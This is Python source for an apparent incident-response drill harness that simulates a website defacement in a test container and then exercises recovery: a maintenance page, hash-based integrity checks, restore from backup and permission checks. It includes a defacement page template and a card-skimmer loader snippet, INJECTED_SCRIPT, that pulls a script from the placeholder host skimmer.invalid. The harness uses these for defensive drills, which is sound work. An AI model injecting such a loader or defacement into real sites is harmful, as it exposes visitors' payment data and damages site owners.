"""The website defacement drill (seed 002, "Website Defacement"): its fault, runbook steps, checks
and the "site" probe, for stacks started with `stack: {web: true}`.

The known-good copy is the web content's backup taken when the stack came up (drillkit/stack/services/web.py:
a tarball and a SHA-256 manifest in the harness's run dir, out of the web host's reach). Everything
is judged against that manifest: on disk (`sha256sum` of every file inside the container) and as
served (each page fetched over HTTP, its bytes hashed). The public site is on the web front's port
80, which the maintenance page covers; the staff preview on 8081 serves the same content without
it, so restored content is verified as served before the public site comes back.

Availability in this drill is the site's: the "site" probe (added to the availability and journey
probes whenever the stack has a web front) fetches every page of the manifest from the public site
at every tick and fails unless each answers 200 with its known-good SHA-256 (and the API answers
through the front). A defaced page, an injected script or the maintenance page is downtime, so
RTO = T_recovered − T_fault stops only when the genuine site is served again (DESIGN.md's rule:
the clock stops when every success check holds).
"""

from __future__ import annotations

import html
import re
import shlex
import threading
from collections.abc import Callable
from pathlib import PurePosixPath
from urllib.parse import quote

import requests

from drillkit.core.context import DrillContext
from drillkit.core.probes import ProbeError
from drillkit.core.registry import CHECKS, FAULTS, PROBES, RECOVERY, Duration, optional_services
from drillkit.errors import CheckFailed, EnvironmentBroken, StepFailed
from drillkit.stack.services.web import (
    MAINTENANCE_FLAG,
    MAINTENANCE_PAGE,
    WEB_PREVIEW_PORT,
    WEB_ROOT,
    Manifest,
    WebBackup,
    compare,
    parse_sha256sum,
    select_tar,
    served_paths,
    sha256,
)
from drillkit.stack.stack import Stack
from drillkit.wait import wait_for

WEB = "web"
DEFAULT_MESSAGE = "Website temporarily unavailable for maintenance."
"""Seed 002's `toggle-maintenance-mode.sh on "Website temporarily unavailable for maintenance."`"""
MAINTENANCE_TEMPLATE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Maintenance</title></head>
<body>
<h1>Maintenance</h1>
<p id="message">{message}</p>
</body>
</html>
"""
DEFACED_TEMPLATE = """<!doctype html>
<html><head><title>{banner}</title></head>
<body style="background:#000;color:#0f0"><h1>{banner}</h1><p>Your security is a joke.</p></body>
</html>
"""
INJECTED_SCRIPT = (
    "\n;(function(){var s=document.createElement('script');"
    "s.src='https://skimmer.invalid/collect.js';document.head.appendChild(s);})();\n"
)
"""A card-skimmer loader appended to a site script. `.invalid` is reserved (RFC 2606): it resolves
nowhere, and the harness never runs the script anyway (it only hashes the bytes)."""
NGINX_STATUS = re.compile(r'" ([1-5]\d\d) ')
NGINX_ERROR_LEVELS = ("[error]", "[crit]", "[alert]", "[emerg]")

optional_services("web", WEB)


# ----- content, on disk and as served --------------------------------------------------------


def known_good(stack: Stack, backup: str = "latest") -> WebBackup:
    """The known-good backup `backup` ('latest' or its UTC timestamp id)."""
    if not stack.web_backups:
        raise EnvironmentBroken(
            "the stack has no web front backup (scenario needs stack: {web: true})"
        )
    if backup == "latest":
        return stack.web_backups[-1]
    for b in stack.web_backups:
        if b.id == backup:
            return b
    raise StepFailed(
        "web backup",
        f"no backup {backup!r}; available: {', '.join(b.id for b in stack.web_backups)}",
    )


def preview_url(stack: Stack) -> str:
    return f"http://127.0.0.1:{stack.port(WEB, WEB_PREVIEW_PORT)}"


def disk_manifest(stack: Stack) -> Manifest:
    """SHA-256 of every file under the content root, computed inside the web container."""
    res = stack.exec(
        WEB, f"cd {WEB_ROOT} && find . -type f -exec sha256sum -- {{}} +", user="root", timeout_s=30
    )
    if res.exit_code != 0:
        raise EnvironmentBroken(f"sha256sum in {WEB} exited {res.exit_code}: {res.output[-400:]}")
    return parse_sha256sum(res.output)


def served_problems(
    base_url: str,
    manifest: Manifest,
    paths: list[str] | None = None,
    session: requests.Session | None = None,
    timeout_s: float = 2.0,
) -> list[str]:
    """What is wrong with the pages `base_url` serves (all of the manifest's, or the URL `paths`):
    an answer other than 200, or bytes whose SHA-256 is not the known-good file's. Empty: right."""
    urls = served_paths(manifest)
    wanted = list(urls) if paths is None else paths
    http = session or requests
    problems = []
    for url in wanted:
        rel = urls.get(url)
        if rel is None:
            problems.append(f"{url}: not a page of the known-good site")
            continue
        r = http.get(base_url + quote(url), timeout=timeout_s)
        if r.status_code != 200:
            problems.append(f"{url} answered {r.status_code}")
        elif sha256(r.content) != manifest[rel]:
            problems.append(
                f"{url} serves bytes that are not {rel}'s (sha256 {sha256(r.content)[:12]})"
            )
    return problems


def _summary(problems: list[str], total: int) -> str:
    return f"{len(problems)} of {total} requests wrong: " + "; ".join(problems)


@PROBES("site")
def site_probes(stack: Stack, timeout_s: float) -> dict[str, Callable[[], object]]:
    """The "site" probe for a stack with a web front (none otherwise): every page of the known-good
    manifest from the public site, each with its known-good SHA-256, and the app's health through
    the front's /api/ proxy."""
    if stack.spec.is_compose or WEB not in stack.services:  # a compose service may be named web
        return {}
    local = threading.local()

    def site() -> None:
        session = getattr(local, "session", None)
        if session is None:
            session = local.session = requests.Session()
        manifest = known_good(stack).manifest
        base = stack.web_url
        problems = served_problems(base, manifest, session=session, timeout_s=timeout_s)
        health = stack.spec.app.health
        r = session.get(base + health.path, timeout=timeout_s)
        if r.status_code != health.status:
            problems.append(f"{health.path} through the front answered {r.status_code}")
        if problems:
            raise ProbeError(_summary(problems, len(served_paths(manifest)) + 1))

    return {"site": site}


def _exec_root(stack: Stack, cmd: str, what: str) -> str:
    res = stack.exec(WEB, cmd, user="root", timeout_s=30)
    if res.exit_code != 0:
        raise StepFailed(what, f"`{cmd[:120]}` exited {res.exit_code}: {res.output[-400:]}")
    return res.output


# ----- fault -----------------------------------------------------------------------------------


@FAULTS("deface-site", needs=("web",))
def deface_site(
    ctx: DrillContext,
    page: str = "index.html",
    script: str = "js/app.js",
    banner: str = "HACKED",
) -> str:
    """An attacker with a root shell on the web host replaces `page` with a defacement page and
    appends a script loader (a card skimmer) to `script`, in place. The step ends once the public
    site serves both altered files."""
    stack = ctx.stack
    good = known_good(stack)
    for f in (page, script):
        if f not in good.manifest:
            raise StepFailed(
                "deface-site", f"{f} is not a file of the site ({sorted(good.manifest)})"
            )
    defaced = DEFACED_TEMPLATE.format(banner=html.escape(banner))
    _exec_root(
        stack,
        f"set -e; cd {WEB_ROOT}; printf '%s' {shlex.quote(defaced)} > {shlex.quote(page)};"
        f" printf '%s' {shlex.quote(INJECTED_SCRIPT)} >> {shlex.quote(script)}",
        "deface-site",
    )
    urls = ["/" + page, "/" + script]
    wait_for(
        lambda: len(served_problems(stack.web_url, good.manifest, urls)) == len(urls),
        what=f"the public site to serve the altered {page} and {script}",
        timeout_s=5.0,
        interval_s=0.02,
    )
    ctx.figure("defaced_files", [page, script])
    ctx.evidence(
        "defacement (ground truth)",
        f"{page} replaced ({len(defaced)} bytes, banner {banner!r}); {script} had a script "
        f"loader appended: {INJECTED_SCRIPT.strip()}",
    )
    return f"{page} defaced, a skimmer loader injected into {script}; both served"


# ----- runbook steps ------------------------------------------------------------------------------


@RECOVERY("site-maintenance", needs=("web",))
def site_maintenance(
    ctx: DrillContext,
    enabled: bool,
    message: str = DEFAULT_MESSAGE,
    timeout: Duration = Duration(10.0),
) -> str:
    """Seed 002 "Take Website Offline" (`toggle-maintenance-mode.sh on "<message>"`). On: the
    maintenance page (saying `message`) is written and the flag created; nginx then answers every
    site path with it and 503 (the API stays up). Off: the flag is removed. Either way the step
    waits until the public site answers accordingly."""
    stack = ctx.stack
    shown = html.escape(message)
    if enabled:
        page = MAINTENANCE_TEMPLATE.format(message=shown)
        _exec_root(
            stack,
            f"set -e; printf '%s' {shlex.quote(page)} > {MAINTENANCE_PAGE}.tmp;"
            f" mv {MAINTENANCE_PAGE}.tmp {MAINTENANCE_PAGE}; touch {MAINTENANCE_FLAG}",
            "site-maintenance",
        )
    else:
        _exec_root(stack, f"rm -f {MAINTENANCE_FLAG}", "site-maintenance")

    def answered() -> bool:
        r = stack.web_health(2.0)
        if enabled:
            return r.status_code == 503 and shown in r.text
        return r.status_code != 503

    try:
        wait_for(
            answered,
            what=f"the public site {'behind' if enabled else 'out of'} the maintenance page",
            timeout_s=timeout,
            interval_s=0.02,
            context=stack.log_context(WEB),
        )
    except EnvironmentBroken as exc:
        raise StepFailed("site-maintenance", str(exc)) from exc
    return f"maintenance page {'on' if enabled else 'off'}" + (f": {message!r}" if enabled else "")


@RECOVERY("check-site-integrity", needs=("web",))
def check_site_integrity(ctx: DrillContext, log_lines: int = 200) -> str:
    """Seed 002 "Identify Compromise Method": verify file integrity against the known-good copy
    (the backup's SHA-256 manifest) on disk and as served (on the staff preview: the public site
    may be behind the maintenance page); list the files changed since the backup; keep the web
    server's log tail and each altered file (with its SHA-256) as evidence. It records what it
    finds and never fails."""
    stack = ctx.stack
    good = known_good(stack)
    found = disk_manifest(stack)
    diff = compare(good.manifest, found)
    served = served_problems(preview_url(stack), good.manifest)
    changed = _exec_root(
        stack,
        f"cd {WEB_ROOT} && find . -newermt @{int(good.taken_wall)} -printf '%TY-%Tm-%Td %TT %u %m %p\\n'",
        "check-site-integrity",
    )
    ctx.figure("site_files_modified", list(diff.modified))
    ctx.figure("site_files_missing", list(diff.missing))
    ctx.figure("site_files_added", list(diff.added))
    ctx.figure("site_pages_wrong", len(served))
    ctx.evidence("web content vs the known-good manifest (on disk)", diff.describe())
    ctx.evidence("web pages as served (staff preview)", "\n".join(served) or "all pages right")
    ctx.evidence(f"web content changed since backup {good.id}", changed.strip() or "(none)")
    ctx.evidence("web server log (tail)", stack.logs(WEB, tail=log_lines))
    for rel in (*diff.modified, *diff.added):
        body = _exec_root(
            stack, f"head -c 4096 -- {shlex.quote(f'{WEB_ROOT}/{rel}')}", "check-site-integrity"
        )
        ctx.evidence(f"{rel} as found (sha256 {found[rel]}; first 4 KiB)", body)
    return f"on disk: {diff.describe()}; served: " + (
        _summary(served, len(served_paths(good.manifest))) if served else "all pages right"
    )


@RECOVERY("restore-site-content", needs=("web",))
def restore_site_content(
    ctx: DrillContext, backup: str = "latest", files: list[str] | None = None
) -> str:
    """Seed 002 "Restore Clean Content" (`restore-web-content.sh [backup-timestamp]`): the content
    tree is replaced by the known-good backup `backup` ('latest' or its UTC timestamp id): every
    file is removed, then the backup's files are written back through Docker's archive API
    (content, mode, owner). With `files` (paths relative to the site), only those are written back
    and nothing is removed: a partial restore."""
    stack = ctx.stack
    chosen = known_good(stack, backup)
    try:
        data, taken = select_tar(chosen.tar_bytes(), files)
    except KeyError as exc:
        raise StepFailed("restore-site-content", str(exc)) from exc
    if files is None:
        _exec_root(stack, f"find {WEB_ROOT} -mindepth 1 -delete", "restore-site-content")
    parent = str(PurePosixPath(WEB_ROOT).parent)
    if not stack.container(WEB).put_archive(parent, data):
        raise StepFailed("restore-site-content", f"the engine refused the archive for {parent}")
    ctx.figure("site_files_restored", taken)
    scope = "every file (the tree emptied first)" if files is None else ", ".join(taken)
    return f"restored {len(taken)} files from backup {chosen.id}: {scope}"


@RECOVERY("verify-site-files", needs=("web",))
def verify_site_files(ctx: DrillContext) -> str:
    """Seed 002 "Verify file integrity against known good copies" and "Verify correct file
    permissions": every file's SHA-256 on disk is the manifest's (none missing, none added), and
    no content file or directory is writable by everyone or owned by the web server's user."""
    stack = ctx.stack
    good = known_good(stack)
    diff = compare(good.manifest, disk_manifest(stack))
    loose = _exec_root(
        stack,
        f"find {WEB_ROOT} \\( -perm -0002 -o -user www-data \\) -printf '%m %u:%g %p\\n'",
        "verify-site-files",
    ).strip()
    problems = ([] if diff.clean else [diff.describe()]) + (
        [f"loose permissions: {loose}"] if loose else []
    )
    if problems:
        raise StepFailed("verify-site-files", "; ".join(problems))
    return f"all {len(good.manifest)} files match backup {good.id}; permissions tight"


@RECOVERY("verify-site-served", needs=("web",))
def verify_site_served(
    ctx: DrillContext,
    paths: list[str] | None = None,
    preview: bool = False,
    timeout: Duration = Duration(10.0),
) -> str:
    """Every page of the known-good site (or only the URL `paths`, e.g. ['/']) is served with its
    known-good SHA-256: by the public site, or by the staff preview with `preview` (while the
    public site is still behind the maintenance page). Waits up to `timeout`, then fails naming
    the wrong pages."""
    stack = ctx.stack
    manifest = known_good(stack).manifest
    base = preview_url(stack) if preview else stack.web_url
    seen: list[list[str]] = []

    def right() -> bool:
        seen.append(served_problems(base, manifest, paths))
        return not seen[-1]

    try:
        wait_for(
            right, what="the known-good pages to be served", timeout_s=timeout, interval_s=0.05
        )
    except EnvironmentBroken as exc:
        detail = _summary(seen[-1], len(paths or served_paths(manifest))) if seen else str(exc)
        raise StepFailed("verify-site-served", detail) from exc
    n = len(paths) if paths is not None else len(served_paths(manifest))
    return f"{n} pages served with their known-good SHA-256 ({'preview' if preview else 'public'})"


# ----- checks ----------------------------------------------------------------------------------


@CHECKS(
    "site-integrity",
    title="Website content matches the known-good copy (on disk and as served)",
    needs=("web",),
)
def site_integrity(ctx: DrillContext) -> str:
    """Every content file on disk matches the known-good manifest (none missing, none added), the
    public site serves every page with its known-good bytes, and it is not in maintenance."""
    stack = ctx.stack
    good = known_good(stack)
    problems = []
    diff = compare(good.manifest, disk_manifest(stack))
    if not diff.clean:
        problems.append(f"on disk: {diff.describe()}")
    served = served_problems(stack.web_url, good.manifest, timeout_s=5.0)
    if served:
        problems.append("served: " + _summary(served, len(served_paths(good.manifest))))
    if stack.exec(WEB, f"test -e {MAINTENANCE_FLAG}", user="root").exit_code == 0:
        problems.append("the maintenance flag is still set")
    if problems:
        raise CheckFailed("; ".join(problems))
    return (
        f"{len(good.manifest)} files match backup {good.id}; "
        f"{len(served_paths(good.manifest))} pages served with their known-good SHA-256"
    )


def nginx_errors(log: str) -> list[str]:
    """Lines of an nginx log (access log in the combined format, error log) that report a 5xx
    answer or an error of level error and above."""
    out = []
    for line in log.splitlines():
        m = NGINX_STATUS.search(line)
        if (m and m.group(1).startswith("5")) or any(lv in line for lv in NGINX_ERROR_LEVELS):
            out.append(line)
    return out


@CHECKS(
    "site-no-error-spike",
    title="No error answers in the web server's log after recovery",
    needs=("web",),
)
def site_no_error_spike(ctx: DrillContext, max_errors: int = 0) -> str:
    """No 5xx answer (the maintenance page included) and no nginx error in the web server's log
    after recovery."""
    t_rec = ctx.result.markers.get("recovered")
    if t_rec is None:
        raise CheckFailed("never recovered")
    since = int(ctx.result.wall(t_rec)) + 1
    ctx.stack.container(WEB)  # this run's (blast radius)
    log = ctx.log_since(WEB, since)
    bad = nginx_errors(log)
    if len(bad) > max_errors:
        raise CheckFailed(
            f"{len(bad)} error lines in the web log after recovery, e.g. {bad[0][:200]}"
        )
    return f"no error answers in the web log since recovery ({len(log.splitlines())} lines)"
